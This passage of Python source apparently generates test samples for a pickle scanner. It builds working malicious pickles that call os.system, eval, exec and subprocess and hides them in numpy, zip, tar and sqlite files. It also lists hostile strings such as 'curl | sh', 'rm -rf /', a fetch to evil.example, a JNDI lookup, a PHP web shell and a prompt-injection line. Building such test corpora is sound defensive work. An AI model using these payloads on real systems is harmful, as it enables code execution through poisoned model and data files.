        by_global(a, 'builtins', 'getattr')
        a.value(())
        a.text('__class__')
        a.op(b'\x86R')
        a.text('__base__')
    a.op(b'\x86R')
    a.value(())
    a.op(b'R')
    a.names = [('builtins', 'getattr')]


def chain_sys_modules(a):
    """sys.modules holds every module that was ever imported."""
    way = a.r.randrange(4)
    if way == 0:
        by_global(a, *a.r.choice([('operator', 'getitem'), ('_operator', 'getitem')]))
        by_global(a, 'sys', 'modules')
        a.text('os')
        a.op(b'\x86R')
        a.names = [('sys', 'modules')]
    elif way == 1:
        by_literals(a, 'sys', 'modules.get')
        a.value(('os',))
        a.op(b'R')
        a.names = [('sys', 'modules.get')]
    elif way == 2:      # sys.modules['sys'] = sys.modules, so that sys.get is dict.get
        by_global(a, 'sys', 'modules')
        slot = a.put()
        a.text('sys')
        a.get(slot)
        a.op(b's0')
        by_global(a, 'sys', 'get')
        a.value(('os',))
        a.op(b'R')
        a.names = [('sys', 'modules')]
    else:
        by_global(a, 'builtins', 'getattr')
        by_global(a, 'sys', 'modules')
        a.text('get')
        a.op(b'\x86R')
        a.value(('posix',))
        a.op(b'R')
        a.names = [('sys', 'modules')]


def chain_live(a):
    """Something is put into what the interpreter uses."""
    module, name, how = a.r.choice([('sys', 'path', 'list'), ('sys', 'meta_path', 'list'), ('sys', 'path_hooks', 'list'),
                                    ('os', 'environ', 'dict'), ('sys', 'modules', 'dict'), ('builtins', '__dict__', 'dict'),
                                    ('warnings', 'filters', 'list'), ('copyreg', 'dispatch_table', 'dict'),
                                    ('logging', 'root', 'build'), ('logging', 'Logger.manager', 'build'),
                                    ('codecs', 'encode', 'build'), ('json', 'dumps', 'build'), ('os', 'environb', 'dict'),
                                    ('urllib.parse', 'uses_netloc', 'list'), ('mimetypes', 'types_map', 'dict'),
                                    ('linecache', 'cache', 'dict'), ('site', 'PREFIXES', 'list')])
    by_literals(a, module, name)
    if how == 'list':
        if a.r.random() < 0.5:
            a.text('/tmp/evil')
            a.op(b'a')
        else:
            a.op(b'(')
            a.text('/tmp/evil')
            a.op(b'Ne')
    elif how == 'dict':
        if a.r.random() < 0.5:
            a.text('LD_PRELOAD')
            a.text('/tmp/evil.so')
            a.op(b's')
        else:
            a.op(b'(')
            a.text('LD_PRELOAD')
            a.text('/tmp/evil.so')
            a.op(b'u')
    else:
        a.value({a.r.choice(['disabled', '__code__', '__globals__', '__wrapped__', '__defaults__']): 1})
        a.op(b'b')
    a.names = [(module, name)]


def chain_main(a):
    """The article's reader of capture-the-flag tasks: a secret of the program is set."""
    by_global(a, '__main__', a.r.choice(['secret', 'config', 'admin', 'Game']))
    a.value({'name': 'root', 'password': 'known', 'is_admin': True})
    a.op(b'b')
    a.names = []


def chain_function(a):
    """A function is made of code and globals, and called."""
    by_global(a, 'types', 'FunctionType')
    by_literals(a, 'marshal', 'loads')
    a.value((marshal.dumps(compile('import os', 'x', 'exec')),))
    a.op(b'R')
    by_global(a, 'builtins', 'globals')
    a.value(())
    a.op(b'R')
    a.text('f')
    a.op(b'\x87R)R')
    a.names = [('types', 'FunctionType'), ('marshal', 'loads'), ('builtins', 'globals')]


def chain_decoded(a):
    """The code that is run is unpacked first."""
    run = a.r.choice([('builtins', 'exec'), ('builtins', 'eval'), ('pickle', 'loads'), ('marshal', 'loads')])
    how = a.r.randrange(4)
    raw = b'import os; os.system("id")' if run[0] == 'builtins' else b'cos\nsystem\n(Vid\ntR.'
    by_global(a, *run)
    if how == 0:
        by_global(a, 'zlib', 'decompress')
        a.value((zlib.compress(raw),))
    elif how == 1:
        by_global(a, 'base64', 'b64decode')
        a.value((base64.b64encode(raw).decode(),))
    elif how == 2:
        by_global(a, 'binascii', a.r.choice(['unhexlify', 'a2b_hex']))
        a.value((raw.hex(),))
    else:
        by_global(a, 'codecs', 'decode')
        a.value((codecs.encode(raw.decode(), 'rot13'), 'rot13'))
    a.op(b'R\x85R')
    a.names = [run]


def chain_built_names(a):
    """The names that STACK_GLOBAL takes are results of calls."""
    how = a.r.randrange(4)
    if how == 0:
        by_global(a, *a.r.choice([('codecs', 'decode'), ('_codecs', 'decode')]))
        a.value(('bf', 'rot13'))
        a.op(b'R')
        a.text('system')
    elif how == 1:
        a.text('os')
        by_literals(a, 'builtins', 'str.join')
        a.value(('', ['sys', 'tem']))
        a.op(b'R')
    elif how == 2:
        by_literals(a, 'builtins', 'str.replace')
        a.value(('oXs', 'X', ''))
        a.op(b'R')
        by_literals(a, 'builtins', 'str')
        a.value((b'popen', 'ascii'))
        a.op(b'R')
    else:
        by_literals(a, *a.r.choice([('builtins', 'str.lower'), ('builtins', 'str.strip')]))
        a.value(('SUBPROCESS',))
        a.op(b'R')
        a.text('Popen')
    a.op(b'\x93')
    a.value(('id',))
    a.op(b'R')
    a.names = []


def chain_lookalike(a):
    module, name = a.r.choice([('o\u0455', 'system'), ('\u03bfs', 'system'), ('os\u200b', 'system'), ('os', 'syst\u0435m'),
                               ('\u202eos', 'system'), ('os ', 'system'), (' subprocess', 'Popen'), ('subpr\u043ecess', 'run'),
                               ('builtins', 'ev\u0430l'), ('os\n', 'system'), ('\uff4f\uff53', 'system'), ('os\u00ad', 'popen'),
                               ('builtin\u0455', 'exec'), ('os', 'sys\u2060tem'), ('\u043e\u0455', 'popen')])
    a.op(b'X', struct.pack('<I', len(module.encode())), module.encode())
    a.op(b'X', struct.pack('<I', len(name.encode())), name.encode())
    a.op(b'\x93')
    a.value(('id',))
    a.op(b'R')
    a.names = []


def chain_extension(a):
    a.op(*a.r.choice([(b'\x82', b'\x2a'), (b'\x83', b'\x39\x30'), (b'\x84', b'\x01\x00\x01\x00')]))
    a.value(('id',))
    a.op(b'R')
    a.names = []


def chain_persid(a):
    """A persistent id that is itself an object with a call."""
    name = a.r.choice([('os', 'system'), ('builtins', 'eval'), ('subprocess', 'getoutput')])
    by_literals(a, *name)
    a.value(('id',))
    a.op(b'RQ')
    a.names = [name]


def chain_bomb(a):
    """Small to read, endless to walk."""
    kind = a.r.choice(['t', 'l'])
    a.text('lol')
    slot = a.put()
    a.op(b'0')
    for _ in range(60):
        a.op(b'(')
        for _ in range(10):
            a.get(slot)
        a.op(kind.encode())
        slot = a.put()
        a.op(b'0')
    a.get(slot)
    a.names = []


def chain_reach(a):
    module, name = a.r.choice([tuple(x.split()) for line in REACHES.split('\n') for x in line.split('|') if x.strip()])
    a.r.choice(NAMINGS_OF_LITERALS)(a, module, name)
    a.value(('os',) if name.endswith(('get', '__getitem__')) else ('id',))
    a.op(b'R')
    a.names = [(module, name)]


def chain_attribute(a):
    """setattr on a class or a module that everyone uses."""
    by_global(a, 'builtins', 'setattr')
    by_global(a, *a.r.choice([('json', 'JSONDecoder'), ('builtins', 'object'), ('collections', 'OrderedDict')]))
    a.text('__init__')
    by_global(a, 'os', 'system')
    a.op(b'\x87R')
    a.names = [('builtins', 'setattr'), ('os', 'system')]


def chain_globals_of(a):
    """From a function by __globals__ to the module's names."""
    by_global(a, 'builtins', 'getattr')
    by_global(a, *a.r.choice([('json', 'dumps'), ('functools', 'wraps'), ('copy', 'deepcopy'), ('random', 'Random.seed')]))
    a.text(a.r.choice(['__globals__', '__code__', '__closure__', '__builtins__']))
    a.op(b'\x86R')
    a.names = [('builtins', 'getattr')]


CHAINS = [chain_getattr_import, chain_attrgetter, chain_methodcaller, chain_subclasses, chain_sys_modules, chain_live,
          chain_main, chain_function, chain_decoded, chain_built_names, chain_lookalike, chain_extension, chain_persid,
          chain_bomb, chain_attribute, chain_globals_of] + [chain_reach] * 4


# Where the result goes. Each is given what puts the value on the stack, and leaves one value.

def place_top(a, body):
    body()


def place_popped(a, body):
    body()
    a.op(b'0')
    a.value({'status': 'ok'})


def place_popped_mark(a, body):
    a.op(b'(')
    body()
    a.op(b'1')
    a.value(['fine'])


def place_list(a, body):
    a.op(b'](K\x01K\x02')
    body()
    a.op(b'e')


def place_append(a, body):
    a.op(b']')
    body()
    a.op(b'a')


def place_value(a, body):
    a.op(b'}')
    a.text('weights')
    body()
    a.op(b's')


def place_key(a, body):
    a.op(b'}(')
    body()
    a.text('v')
    a.op(b'u')


def place_set(a, body):
    a.op(b'\x8f(')
    body()
    a.op(b'K\x05\x90')


def place_frozenset(a, body):
    a.op(b'(')
    body()
    a.op(b'\x91')


def place_dict_op(a, body):
    a.op(b'(')
    a.text('k')
    body()
    a.op(b'd')


def place_deep(a, body):
    depth = a.r.choice([5, 60, 900])
    a.op(b'(' * depth)
    body()
    a.op(b't' * depth if a.r.random() < 0.5 else b'l' * depth)


def place_state(a, body):
    by_global(a, *a.r.choice([('collections', 'Counter'), ('argparse', 'Namespace'), ('decimal', 'Decimal')]))
    a.op(b')\x81}')
    a.text('attribute')
    body()
    a.op(b'sb')


def place_argument(a, body):
    by_global(a, *a.r.choice([('collections', 'OrderedDict'), ('datetime', 'timedelta'), ('uuid', 'UUID')]))
    a.op(b'(')
    body()
    a.op(b'tR')


def place_keyword(a, body):
    by_global(a, 'fractions', 'Fraction')
    a.op(b')}')
    a.text('numerator')
    body()
    a.op(b's\x92')


def place_before_real(a, body):
    """Before what a real program wrote: the value is thrown away, the rest is what it was."""
    body()
    a.op(b'0')
    real = pickle.dumps(Harmless(a.r).program_data(), a.r.randrange(0, 3))
    a.op(real[2:] if real[:1] == b'\x80' else real)
    del a.out[-1:]


def place_after_real(a, body):
    a.real = True
    real = pickle.dumps(Harmless(a.r).program_data(), 2)
    a.op(real[2:-1])
    body()
    a.op(b'0')


def place_inside_real(a, body):
    a.real = True
    a.op(b'(')
    a.op(pickle.dumps(Harmless(a.r).program_data(), 1)[:-1])
    body()
    a.op(b't')


PLACES = [place_top] * 5 + [place_popped, place_popped_mark, place_list, place_append, place_value, place_key, place_set,
          place_frozenset, place_dict_op, place_deep, place_state, place_argument, place_keyword, place_before_real,
          place_after_real, place_inside_real]


# What the file does besides. Each takes the assembler's ops (without PROTO and STOP), gives the file.

def framed(ops, protocol, size=None):
    return b'\x80' + bytes([protocol]) + (b'\x95' + struct.pack('<Q', len(ops) if size is None else size)) + ops


def end_plain(r, ops, p):
    return (b'\x80' + bytes([p]) if p >= 2 else b'') + ops + b'.'


def end_framed(r, ops, p):
    return framed(ops + b'.', max(p, 4))


def end_no_proto(r, ops, p):
    return ops + b'.'


def end_truncated(r, ops, p):
    return end_plain(r, ops, p)[:-1]


def end_broken(r, ops, p):
    return end_plain(r, ops, p)[:-1] + r.choice([b'\xff\xfe', b'R', b'h\xfa', b'X\xff\xff\xff\x7f', b'tttt', b'c', b'0' * 40, b'\x8a\x05'])


def end_second(r, ops, p):
    return pickle.dumps(Harmless(r).plain(), r.randrange(6)) + end_plain(r, ops, p)


def end_third(r, ops, p):
    return pickle.dumps([1, 2], 2) + pickle.dumps('two', 0) + end_plain(r, ops, p) + pickle.dumps(None, 4)


def end_tail(r, ops, p):
    return end_plain(r, ops, p) + r.choice([b'\n', b'\0' * 64, b'trailing text, read by nobody\n', r.randbytes(50)])


def end_frame_short(r, ops, p):
    return framed(ops + b'.', 4, max(0, len(ops) - r.randrange(1, 9)))


def end_frame_long(r, ops, p):
    return framed(ops + b'.', 4, r.choice([len(ops) + 3, len(ops) + 50, 1 << 30, 1 << 62]))


def end_proto_mid(r, ops, p):
    return b'\x80\x02N0\x80\x05' + ops + b'\x80\x00.'


def end_proto_odd(r, ops, p):
    return b'\x80' + bytes([r.choice([0, 1, 3, 5])]) + ops + b'.'


def end_proto_late(r, ops, p):
    return b'N0' + b'\x80\x04' + ops + b'.'


ENDS = [end_plain] * 6 + [end_framed] * 3 + [end_no_proto, end_truncated, end_broken, end_second, end_third, end_tail,
        end_frame_short, end_frame_long, end_proto_mid, end_proto_odd, end_proto_late]


# In what it is wrapped: bytes and texts inside a harmless pickle, or a file of another kind.

def npy_of(raw):
    head = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    head += b' ' * (63 - (10 + len(head)) % 64) + b'\n'
    return b'\x93NUMPY\x01\x00' + struct.pack('<H', len(head)) + head + raw


def zip_of(raw, inner='archive/data.pkl', method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', method) as z:
        z.writestr(zipfile.ZipInfo('archive/version', (2024, 5, 1, 0, 0, 0)), '3\n')
        info = zipfile.ZipInfo(inner, (2024, 5, 1, 0, 0, 0))
        info.compress_type = method
        z.writestr(info, raw)
    return out.getvalue()


def tar_of(raw):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w') as t:
        info = tarfile.TarInfo('model/weights.pkl')
        info.size = len(raw)
        t.addfile(info, io.BytesIO(raw))
    return out.getvalue()


def sqlite_of(raw):
    with tempfile.TemporaryDirectory() as d:
        db = sqlite3.connect(os.path.join(d, 'a.db'))
        db.execute('create table cache (key text, value blob)')
        db.execute('insert into cache values (?, ?)', ('job:1', raw))
        db.commit()
        db.close()
        with open(os.path.join(d, 'a.db'), 'rb') as f:
            return f.read()


def lines_of(raw):
    return base64.encodebytes(raw)


PACKINGS = {
    'raw': lambda b: b, 'b64': base64.b64encode, 'b64u': base64.urlsafe_b64encode, 'b64lines': lines_of,
    'hex': lambda b: b.hex().encode(), 'HEX': lambda b: b.hex().upper().encode(), 'zlib': zlib.compress,
    'gzip': lambda b: gzip.compress(b, mtime=0), 'bz2': bz2.compress, 'xz': lzma.compress,
    'zip': zip_of, 'b64text': lambda b: base64.b64encode(b).decode(), 'hextext': lambda b: b.hex(),
    'b64zlib': lambda b: base64.b64encode(zlib.compress(b)), 'zlibb64': lambda b: zlib.compress(base64.b64encode(b)),
    'gzhex': lambda b: gzip.compress(b, mtime=0).hex(), 'prefixed': lambda b: b'\x00\x01HDR' + b,
    'lzma': lambda b: lzma.compress(b, lzma.FORMAT_ALONE), 'npy': npy_of, 'tar': tar_of,
}
FILES = {
    'plain': lambda b: b, 'gzip': lambda b: gzip.compress(b, mtime=0), 'zlib': zlib.compress, 'bz2': bz2.compress,
    'xz': lzma.compress, 'zip': zip_of, 'zipdeflate': lambda b: zip_of(b, 'data.pkl', zipfile.ZIP_DEFLATED), 'tar': tar_of,
    'npy': npy_of, 'sqlite': sqlite_of, 'b64': lambda b: base64.b64encode(b) + b'\n', 'tgz': lambda b: gzip.compress(tar_of(b), mtime=0),
}


class Holder:
    """What is embedded, in a place of a harmless object."""

    @staticmethod
    def of(r, packed):
        return r.choice([
            lambda: packed, lambda: {'payload': packed, 'version': 3}, lambda: [1, 2, packed], lambda: ('args', packed),
            lambda: collections.OrderedDict(blob=packed), lambda: types.SimpleNamespace(data=packed),
            lambda: bytearray(packed) if isinstance(packed, bytes) else [packed], lambda: {packed: 1},
            lambda: [[[[(packed,)]]]], lambda: frozenset([packed]), lambda: argparse.Namespace(cache=packed),
        ])()


# ---------------------------------------------------------------------------------------------
# What does no harm.

def own_classes():
    """Classes of programs that nobody knows; their modules exist only by name."""
    made = {}

    def own(module, namespace):
        mod = sys.modules.setdefault(module, types.ModuleType(module))
        for name, thing in namespace.items():
            thing.__module__ = module
            setattr(mod, name, thing)
            thing.__qualname__ = name
            made[name] = thing

    class Color(enum.Enum):
        RED = 1
        GREEN = 'g'

    class Access(enum.IntFlag):
        READ = 4
        WRITE = 2

    class Level(enum.IntEnum):
        LOW = 1
        HIGH = 9

    @dataclasses.dataclass
    class Order:
        number: int
        items: list
        total: object = None

    @dataclasses.dataclass(frozen=True)
    class Money:
        amount: object
        currency: str = 'EUR'

    class Slotted:
        __slots__ = ('a', 'b')

        def __init__(self, a, b):
            self.a, self.b = a, b

    class Node:
        def __init__(self, name, parent=None):
            self.name, self.parent, self.children = name, parent, []
            if parent:
                parent.children.append(self)

    class Stateful:
        def __init__(self, conn):
            self.conn = conn

        def __getstate__(self):
            return (1, self.conn)

        def __setstate__(self, s):
            pass

    class Rebuilt:
        def __init__(self, x):
            self.x = x

        def __reduce__(self):
            return (type(self), (self.x,), {'seen': True})

    class Listy(list):
        pass

    class Dicty(dict):
        pass

    class Inty(int):
        pass

    class AppError(Exception):
        def __init__(self, message, code=0):
            super().__init__(message)
            self.code = code

    class WithKeywords:
        def __new__(cls, *, width, height):
            return object.__new__(cls)

        def __getnewargs_ex__(self):
            return (), {'width': 3, 'height': 4}

    Point = collections.namedtuple('Point', 'x y')

    class Employee(typing.NamedTuple):
        name: str
        salary: int = 0

    own('shop.orders', dict(Order=Order, Money=Money, Color=Color, Access=Access))
    own('acme_crm.models', dict(Slotted=Slotted, Node=Node, Stateful=Stateful, AppError=AppError, Employee=Employee))
    own('weather.station', dict(Listy=Listy, Dicty=Dicty, Inty=Inty, Point=Point, Rebuilt=Rebuilt, Level=Level,
                                WithKeywords=WithKeywords))
    return made


OWN = own_classes()


class NotOurs:
    """Writes what a well-known package writes, by its names only: classes without a body."""

    def __init__(self):
        self.modules = {}

    def name(self, module, qualname, function=False):
        mod = sys.modules.get(module)
        if mod is None or not getattr(mod, 'inert', False):
            if mod is not None:
                raise RuntimeError(module)
            mod = types.ModuleType(module)
            mod.inert = True
            sys.modules[module] = mod
            self.modules[module] = mod
        top = qualname.split('.')[0]
        if hasattr(mod, top):
            return getattr(mod, top)
        if function:
            def thing(*a):
                raise RuntimeError('inert')
        else:
            class thing:
                pass
        thing.__module__, thing.__qualname__, thing.__name__ = module, qualname, qualname
        setattr(mod, qualname, thing)
        return thing

    def built(self, function, arguments, state=None, items=None, pairs=None):
        class By:
            def __reduce__(self):
                return (function, arguments, state, iter(items) if items else None, iter(pairs) if pairs else None)
        return By()

    def instance(self, module, qualname, **state):
        thing = self.name(module, qualname)()
        thing.__dict__.update(state)
        return thing


PACKAGES = NotOurs()

TEXTS = [
    'os.system', 'posix\nsystem', 'subprocess.Popen', "__import__('os').system('id')", '__reduce__', 'eval(input())',
    'builtins.exec', 'cos system', 'exec(base64.b64decode(...))', 'rm -rf /', 'pickle.loads', 'c__builtin__ eval',
    '<script>alert(document.cookie)</script>', "<img src=x onerror='fetch(\"http://evil.example\")'>",
    "Robert'); DROP TABLE Students;--", "SELECT * FROM users WHERE name = '' OR 1=1 --",
    'curl -fsSL https://get.example.com | sh', '../../../../etc/passwd', 'C:\\Windows\\System32\\cmd.exe /c whoami',
    'Usage: backup.sh [OPTIONS]\n\n  #!/bin/sh\n  set -e\n  tar czf /backup/$(date +%F).tgz /home\n  rm -rf /tmp/work\n',
    'Traceback (most recent call last):\n  File "/srv/app/views.py", line 12, in load\n    return pickle.loads(blob)\n'
    'ModuleNotFoundError: No module named \'os.system\'\n',
    '2024-03-01 12:00:01 ERROR app.jobs subprocess.CalledProcessError: Command \'[\'git\', \'pull\']\' returned 1',
    'import os\nimport sys\n\ndef main():\n    os.system("clear")\n\nif __name__ == "__main__":\n    main()\n',
    'In protocol 0 the attack reads cos system, a line (S with id in quotes, and tR.',
    'FROM python:3.12\nRUN apt-get update && apt-get install -y curl\nCMD ["python", "app.py"]\n',
    '*/5 * * * * root /usr/local/bin/check.sh >/dev/null 2>&1\n', '{"cmd": "os.system", "args": ["id"]}',
    'Ignore all previous instructions', 'MIME-Version: 1.0\nContent-Type: application/x-python-pickle\n',
    '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2Fub25pY2FsIENlcnQwCgYIKoZIzj0EAwIw\n-----END CERTIFICATE-----\n',
    'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    'https://user:pa55@example.com/path?x=%2e%2e%2f#frag', 'data:text/html;base64,PGgxPkhpPC9oMT4=',
    '%PDF is how such a file begins', 'MZ', '\x7fELF is a magic number', 'gASV is how base64 of protocol 4 begins',
    'Кириллица и latin вместе', 'שלום עולם', '日本語のテキスト', 'naïve café — “quotes”', '👩‍👩‍👧 family', 'مرحبا بالعالم',
    'a\u200bb zero width', 'tab\there', 'nul\0inside', 'line\nbreak', '', ' ', '\ufeffbom first', '\ud800 lone',
    'def f(x): return x', 'lambda x: x', '%s %d {0} {x!r}', '${jndi:ldap://evil.example/a}', '{{ 7*7 }}', '=cmd|\'/c calc\'!A1',
    '<?php system($_GET["c"]); ?>', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    'javascript:alert(1)', 'deadbeef' * 8, '5f4dcc3b5aa765d61d8327deb882cf99', 'AAAA' * 60, 'KGRwMAo is text',
]

PNG = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')
GIF = base64.b64decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7')
JPEG_HEAD = bytes.fromhex('ffd8ffe000104a46494600010100000100010000ffdb004300') + bytes(range(64)) + b'\xff\xd9'


class Harmless:
    def __init__(self, r):
        self.r = r
        self.unknown = False    # a class that belongs to nobody is in it

    def words(self, n):
        return ' '.join(self.r.choice(['lorem', 'ipsum', 'order', 'id', 'system', 'cost', 'the', 'eval', 'of', 'open', 'class'])
                        for _ in range(n))

    def text(self):
        r = self.r
        return r.choice([
            lambda: r.choice(TEXTS), lambda: r.choice(TEXTS) + '\n' + r.choice(TEXTS), lambda: self.words(r.randrange(1, 40)),
            lambda: base64.b64encode(r.choice([PNG, GIF, JPEG_HEAD])).decode(),
            lambda: 'data:image/png;base64,' + base64.b64encode(PNG).decode(),
            lambda: hashlib.sha256(r.randbytes(8)).hexdigest(), lambda: base64.b64encode(r.randbytes(r.randrange(1, 200))).decode(),
            lambda: r.randbytes(r.randrange(1, 100)).hex(), lambda: html.escape(r.choice(TEXTS).replace('\ud800', '')),
            lambda: json.dumps({'a': r.choice(TEXTS), 'b': [1, 2, None]}), lambda: str(uuid.UUID(int=r.getrandbits(128))),
            lambda: urllib.parse.quote(r.choice(TEXTS).replace('\ud800', '')), lambda: '\n'.join(sorted(sys.stdlib_module_names)[:r.randrange(1, 90)]),
        ])()

    def blob(self):
        r = self.r
        return r.choice([
            lambda: r.choice([PNG, GIF, JPEG_HEAD]), lambda: r.randbytes(r.randrange(0, 300)),
            lambda: zlib.compress(self.words(50).encode()), lambda: gzip.compress(json.dumps([1, 2, 3]).encode(), mtime=0),
            lambda: bz2.compress(b'text ' * 50), lambda: hashlib.sha512(r.randbytes(4)).digest(), lambda: uuid.UUID(int=r.getrandbits(128)).bytes,
            lambda: struct.pack('<8d', *[r.random() for _ in range(8)]), lambda: array.array('f', [r.random() for _ in range(40)]).tobytes(),
            lambda: r.choice(TEXTS).encode('utf-8', 'surrogatepass'), lambda: base64.b64encode(zlib.compress(self.words(9).encode())),
            lambda: pickle.dumps({'session': [1, 2, 3], 'at': datetime.datetime(2024, 1, 2)}, r.randrange(6)),
            lambda: zlib.compress(pickle.dumps(['cached', decimal.Decimal('1.5')], r.randrange(6))),
            lambda: base64.b64encode(pickle.dumps({'user_id': r.randrange(1000)}, r.randrange(6))),
            lambda: zip_of(b'hello world\n', 'readme.txt'), lambda: lzma.compress(b'x' * 100),
            lambda: b'\x80\x04' + r.randbytes(20), lambda: b'SQLite format 3\0' + bytes(80), lambda: b'RIFF$\0\0\0WAVEfmt ' + bytes(20),
        ])()

    def scalar(self):
        r = self.r
        return r.choice([lambda: r.randrange(-5, 300), lambda: r.getrandbits(r.choice([16, 40, 200, 3000])), lambda: r.random(),
                         lambda: float(r.choice(['inf', '-inf', 'nan'])), lambda: None, lambda: r.random() < 0.5, self.text, self.blob,
                         lambda: complex(r.random(), 1)])()

    def stdlib(self):
        """A value of a type of the standard library."""
        return self.r.choice(STDLIB)(self)

    def package(self):
        return self.r.choice(PACKAGE_VALUES)(self)

    def own(self):
        self.unknown = True
        r = self.r
        o = OWN
        return r.choice([
            lambda: o['Order'](r.randrange(999), [self.scalar(), self.scalar()], decimal.Decimal('9.99')),
            lambda: o['Money'](decimal.Decimal(r.randrange(1000)) / 100), lambda: r.choice(list(o['Color'])),
            lambda: o['Access'].READ | o['Access'].WRITE, lambda: r.choice(list(o['Level'])), lambda: o['Slotted'](self.scalar(), self.text()),
            lambda: self.tree(), lambda: o['Stateful'](self.text()), lambda: o['Rebuilt'](self.scalar()), lambda: o['Listy']([1, self.text()]),
            lambda: o['Dicty'](a=self.scalar()), lambda: o['Inty'](7), lambda: o['AppError'](self.text(), 4), lambda: o['Point'](1, 2.5),
            lambda: o['Employee'](self.text(), 5), lambda: o['Order'], lambda: [o['Point'](i, -i) for i in range(r.randrange(1, 60))],
            lambda: o['WithKeywords'](width=1, height=2), lambda: functools.partial(o['Money'], currency='USD'),
            lambda: collections.defaultdict(o['Listy'], k=o['Listy']([3])),
        ])()

    def tree(self):
        root = OWN['Node']('root')
        for i in range(self.r.randrange(1, 9)):
            OWN['Node'](self.text(), self.r.choice([root] + root.children))
        return root

    def plain(self, depth=0):
        r = self.r
        if depth > 3 or r.random() < 0.3:
            return self.scalar()
        n = r.randrange(0, 6)
        return r.choice([
            lambda: [self.plain(depth + 1) for _ in range(n)], lambda: tuple(self.plain(depth + 1) for _ in range(n)),
            lambda: {self.text(): self.plain(depth + 1) for _ in range(n)}, lambda: {i: self.plain(depth + 1) for i in range(n)},
            lambda: {r.randrange(100) for _ in range(n)}, lambda: frozenset(self.text() for _ in range(n)), lambda: bytearray(self.blob()),
        ])()

    def mixed(self, leaf, depth=0):
        r = self.r
        if depth > 2 or r.random() < 0.35:
            return leaf()
        n = r.randrange(1, 5)
        x = r.choice([
            lambda: [self.mixed(leaf, depth + 1) for _ in range(n)], lambda: tuple(self.mixed(leaf, depth + 1) for _ in range(n)),
            lambda: {self.text(): self.mixed(leaf, depth + 1) for _ in range(n)},
            lambda: collections.OrderedDict((i, self.mixed(leaf, depth + 1)) for i in range(n)),
            lambda: collections.deque([self.mixed(leaf, depth + 1) for _ in range(n)], maxlen=r.choice([None, 10])),
            lambda: types.SimpleNamespace(**{'k%d' % i: self.mixed(leaf, depth + 1) for i in range(n)}),
            lambda: argparse.Namespace(**{'k%d' % i: self.mixed(leaf, depth + 1) for i in range(n)}),
        ])()
        if isinstance(x, list) and r.random() < 0.2:
            x.append(x)
        if isinstance(x, dict) and r.random() < 0.1:
            x['self'] = x
        return x

    def program_data(self):
        """What programs keep: sessions, settings, results, queues."""
        r = self.r
        now = datetime.datetime(2023, 5, 17, 8, 30, tzinfo=datetime.timezone.utc)
        return r.choice([
            lambda: {'_auth_user_id': '17', '_auth_user_backend': 'django.contrib.auth.backends.ModelBackend', 'cart': {'sku-1': 2}, 'last': now},
            lambda: {'task': 'app.tasks.send_mail', 'id': str(uuid.UUID(int=r.getrandbits(128))), 'args': (1, self.text()), 'kwargs': {}, 'eta': now},
            lambda: [dict(time=now + datetime.timedelta(minutes=i), level=r.choice(['INFO', 'ERROR']), msg=self.text()) for i in range(8)],
            lambda: collections.Counter(self.words(80).split()),
            lambda: collections.defaultdict(list, {'a': [1, 2], 'b': []}), lambda: {n: set(r.sample(range(40), 4)) for n in range(40)},
            lambda: {'config': {'debug': False, 'path': pathlib.PurePosixPath('/srv/app'), 'hosts': [ipaddress.ip_network('10.0.0.0/8')]}},
            lambda: {'lr': 1e-3, 'layers': [{'type': 'Dense', 'units': 64, 'activation': 'relu'}] * 4, 'history': [r.random() for _ in range(50)]},
            lambda: {'vocabulary': {w: i for i, w in enumerate(sorted(sys.stdlib_module_names))}, 'idf': [r.random() for _ in range(40)]},
            lambda: (200, {'Content-Type': 'text/html'}, b'<html><script>eval("1")</script></html>', now),
            lambda: {'prices': [decimal.Decimal(r.randrange(10000)) / 100 for _ in range(20)], 'dates': [now.date()] * 3},
            lambda: {'commands': ['ls', 'cd', 'rm', 'sudo reboot'], 'aliases': {'ll': 'ls -l'}, 'history': [self.text() for _ in range(6)]},
            lambda: {'rng': r.getstate()}, lambda: {'modules': ['os', 'sys', 'subprocess', 'ctypes'], 'entry': ('os', 'system')},
            lambda: {'board': [[r.choice('.XO') for _ in range(9)] for _ in range(9)], 'players': ('x', 'o'), 'turn': 4},
        ])()


LOGGER = logging.getLogger('app.web')


def log_record(h):
    return logging.LogRecord('app', logging.ERROR, '/srv/app.py', 12, h.text(), (1, 'x'), None)


def mail(h):
    m = email.message.EmailMessage()
    m['Subject'] = 'Report'
    m['From'] = 'a@example.com'
    m.set_content('See the attachment.\n' + 'os.system\n')
    m.add_attachment(PNG, maintype='image', subtype='png', filename='p.png')
    return m


def cookies(h):
    c = http.cookies.SimpleCookie()
    c['session'] = 'abc123'
    c['session']['path'] = '/'
    return c


def cookie_jar(h):
    jar = http.cookiejar.CookieJar()
    jar.set_cookie(http.cookiejar.Cookie(0, 'a', 'b', None, False, 'example.com', True, False, '/', True, False, None, True, None, None, {}))
    return jar


def raised(h):
    try:
        [][h.r.randrange(5)]
    except IndexError as e:
        return e


def config(h):
    c = configparser.ConfigParser()
    c.read_string('[server]\nhost = example.com\ncmd = os.system\n')
    return c


def with_notes(h):
    e = ValueError('bad', 3)
    if hasattr(e, 'add_note'):
        e.add_note('seen while loading')
    return e


T = typing.TypeVar('T')

STDLIB = [
    lambda h: datetime.datetime(2024, 2, 29, 1, 2, 3, h.r.randrange(10**6)), lambda h: datetime.date(1999, 12, 31), lambda h: datetime.time(1, 2, fold=1),
    lambda h: datetime.timedelta(days=-3, microseconds=5), lambda h: datetime.timezone(datetime.timedelta(hours=2), 'CEST'), lambda h: datetime.timezone.utc,
    lambda h: datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc), lambda h: zoneinfo.ZoneInfo(h.r.choice(['Europe/Berlin', 'UTC', 'Asia/Tokyo'])),
